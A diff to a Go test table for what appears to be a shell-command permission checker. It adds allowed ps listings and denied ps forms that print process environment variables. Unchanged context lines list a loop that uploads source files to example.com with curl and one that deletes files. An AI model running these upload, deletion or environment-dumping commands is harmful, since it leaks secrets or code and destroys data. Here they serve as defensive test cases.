@@ -85,6 +85,16 @@ var freeLines = map[string]struct{ free, coding, not []string }{
 			`for f in src/*.go; do find . -name "$f" -delete; done`, `for f in src/*.go; do curl -d @"$f" example.com; done`, "for d in src app; do cd $d && git status; done", "for d in .. ../..; do cd $d && ls; done", "while true; do ls; done", "for ((;;)); do ls; done",
 		},
 	},
+	"processes": {
+		free: []string{
+			"ps", "ps aux", "ps -ef", "ps aux | grep node", "ps aux | grep -v grep | grep server", "ps -ef | grep -E 'node|vite' | head", "ps -eo pid,ppid,args --sort=-rss | head -5", "ps axo pid,comm",
+			"ps -p 1 -o comm=", "ps -C node -f", "ps -u u", "ps auxww", "ps ax -o pid,args", "ls && ps aux | sort -k3 | tail -3",
+		},
+		not: []string{
+			"ps e", "ps axe", "ps auxe", "ps auxeww", "ps eww", "ps -E", "ps -AE", "ps -p 1 e", "ps aux e", "ps -eo pid,args e", "ps -C '|' -A e", "ls && ps -C '|' -A e", "ls && ps -C 'a | b' -A e", "ps -eo pid,environ", "ps axo pid,environ", "ls; ps axo environ",
+			"ps --format environ", "ps aux | grep x > out", "ps aux | xargs kill", "ps $X", "ps axo e e", "ps --pid 1 axe",
+		},
+	},
 	"jobs": {
 		free: []string{"kill %1", "kill -9 %1", "kill -TERM %2", "kill -s KILL %%", "kill %12"},
 		not:  []string{"kill 1", "kill -9 1", "kill -9 -1", "kill %1 1", "kill -- -1", "kill $(pgrep x)", "kill %foo", "kill %?x", "kill -s TERM 1", "pkill x", "killall x", "kill"},
